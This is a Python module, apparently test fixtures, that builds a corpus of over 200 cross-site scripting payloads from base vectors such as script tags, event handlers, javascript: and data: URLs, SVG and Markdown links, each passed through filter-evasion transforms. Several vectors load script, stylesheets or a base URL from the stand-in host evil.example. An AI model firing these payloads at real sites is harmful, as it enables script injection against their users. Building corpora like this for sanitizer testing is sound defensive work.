"""A corpus of XSS payloads: classic vectors, each in several disguises.

Built from a base list of vectors (script tags, event handlers, javascript:
and data: URLs, SVG and MathML, CSS, broken markup) multiplied by the
transformations attackers use to slip past filters (case changes, HTML
entities, URL encoding, null bytes and whitespace inside keywords,
Markdown link and image syntax). ``PAYLOADS`` holds at least 200 distinct
strings.
"""

from __future__ import annotations

import html
import urllib.parse

BASE = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>klicka</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=`x`onerror=alert(1)>",
    "<<img src=x onerror=alert(1)//<",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "[klicka](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![bild](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[länk][x]",
    "{{ 7*7 }}<script>alert(1)</script>",
    "${alert(1)}<svg onload=alert(1)>",
]


def _variants(vector: str) -> list[str]:
    return [
        vector,
        vector.upper(),
        vector.replace("script", "ScRiPt").replace("alert", "al\u0000ert"),
        vector.replace("javascript", "java\tscript").replace("onerror", "onerror\n"),
        html.escape(vector),
        urllib.parse.quote(vector),
        "text före " + vector + " text efter",
    ]


def _build() -> list[str]:
    seen: dict[str, None] = {}
    for vector in BASE:
        for variant in _variants(vector):
            seen.setdefault(variant, None)
    return list(seen)


PAYLOADS = _build()
assert len(PAYLOADS) >= 200, len(PAYLOADS)
